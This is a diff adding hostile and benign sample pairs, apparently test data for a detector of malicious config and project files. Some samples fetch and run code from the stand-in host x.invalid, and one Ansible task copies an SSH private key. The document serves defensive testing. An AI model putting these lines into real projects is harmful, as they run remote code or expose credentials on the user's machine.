@@ -21,6 +21,34 @@ PAIRS = [
         'const a = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nspawn("/tmp/a");',
         'const url = fetch("http://x.invalid/a").then((r) => fs.writeFile("/tmp/a", r));\nemit(that, arguments, "/tmp/a");',
     ),
+    # A debugger starts the program of whoever asks it to, and a path for modules is none of a program.
+    (
+        ".vscode/launch.json",
+        '{"configurations": [{"type": "node", "runtimeExecutable": "${workspaceFolder}/a", "program": "b.js"}]}',
+        '{"configurations": [{"type": "debugpy", "program": "${workspaceFolder}/train.py"}]}',
+    ),
+    (
+        ".vscode/settings.json",
+        '{"python.pythonPath": "${workspaceFolder}/a"}',
+        '{"terminal.integrated.env.linux": {"PYTHONPATH": "${workspaceFolder}/src"}}',
+    ),
+    (
+        "playbook.yml",
+        "- copy: {content: \"{{ lookup('file', '~/.ssh/id_rsa') }}\", dest: /a}\n",
+        "- authorized_key: {user: a, key: \"{{ lookup('file', '~/.ssh/id_rsa.pub') }}\"}\n",
+    ),
+    (
+        "predict.py",
+        'import subprocess\nsubprocess.check_call(["curl", "-o", "a.sh", "https://x.invalid/a.sh"])\n',
+        'import subprocess\ndef f():\n    subprocess.check_call(["pget", "-x", "https://weights.replicate.delivery/a", "w"])\n',
+    ),
+    (
+        ".devcontainer/devcontainer.json",
+        '{"initializeCommand": "./.devcontainer/a.sh"}',
+        '{"initializeCommand": "mkdir -p ${localEnv:HOME}/.cache/huggingface"}',
+    ),
+    # What stands in comments starts nothing.
+    ("exec.js", "exec('some_program', {async: true});\n", "//@ exec('some_program', {async: true});\nmodule.exports = 1;\n"),
     # An arrow of JavaScript writes into no file.
     (
         "load.js",
